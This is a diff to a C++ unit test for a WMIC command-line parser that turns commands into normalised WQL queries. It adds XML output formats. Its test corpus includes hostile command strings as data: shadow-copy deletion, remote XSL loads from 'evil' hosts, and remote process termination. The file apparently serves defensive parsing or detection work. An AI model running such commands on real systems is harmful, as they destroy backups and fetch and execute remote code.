@@ -18,7 +18,7 @@ namespace {
 const wchar_t* const kVerbNames[] = {L"list", L"get", L"call", L"set", L"delete", L"create"};
 const wchar_t* const kAdverbNames[] = {L"", L" brief", L" full", L" instance", L" status", L" system",
                                        L" writeable"};
-const wchar_t* const kFormatNames[] = {L"", L"table", L"list", L"csv", L"json"};
+const wchar_t* const kFormatNames[] = {L"", L"table", L"list", L"csv", L"rawxml", L"xml", L"json"};
 const wchar_t* const kHelpNames[] = {L"", L"general", L"alias", L"verb"};
 
 // The request in one line, listing only what differs from a bare request.
@@ -159,7 +159,11 @@ TEST(WmicGrammar, CorpusLines) {
       {L"wmic.exe os get /FORMAT:`", L"error: Invalid XSL format (or) file name."},
       {L"wmic.exe process get brief /format:\"\\\\evil\\share\\x.xsl\"", L"error: Invalid XSL format (or) file name."},
       {L"wmic os get /format:\"https://evil/csv.xsl\"", L"error: Invalid XSL format (or) file name."},
-      {L"wmic computersystem get model /format:RAWXML", L"error: Invalid XSL format (or) file name."},
+      {L"wmic computersystem get model /format:RAWXML",
+       L"alias:COMPUTERSYSTEM | get | format:rawxml | SELECT model FROM Win32_ComputerSystem"},
+      {L"wmic process where (ParentProcessId=4) get Caption, ProcessId /format:rawxml.xsl",
+       L"alias:PROCESS | get | format:rawxml | SELECT Caption,ProcessId FROM Win32_Process WHERE (ParentProcessId=4)"},
+      {L"wmic os get Caption /Format:XML", L"alias:OS | get | format:xml | SELECT Caption FROM Win32_OperatingSystem"},
       {L"wmic /node: \"pc1\" process where name='\"regsvr32.exe\"' call terminate",
        L"node:pc1 | alias:PROCESS | call terminate | SELECT * FROM Win32_Process WHERE name='\"regsvr32.exe\"'"},
       {L"wmic.exe shadowcopy delete", L"alias:SHADOWCOPY | delete | SELECT * FROM Win32_ShadowCopy"},
@@ -378,7 +382,7 @@ TEST(WmicGrammar, TargetsVerbsAndVerbSwitches) {
       {L"wmic os get /format: textvaluelist", L"alias:OS | get | format:list | SELECT * FROM Win32_OperatingSystem"},
       {L"wmic os get /format:JSON", L"alias:OS | get | format:json | SELECT * FROM Win32_OperatingSystem"},
       {L"wmic os get /format:htable", L"error: Invalid XSL format (or) file name."},
-      {L"wmic os get /format:xml", L"error: Invalid XSL format (or) file name."},
+      {L"wmic os get /format:hform", L"error: Invalid XSL format (or) file name."},
       {L"wmic os get /format:.xsl", L"error: Invalid XSL format (or) file name."},
       {L"wmic os get /format", L"error: Invalid XSL format (or) file name."},
       {L"wmic os get /value:x", L"error: Invalid Verb Switch."},
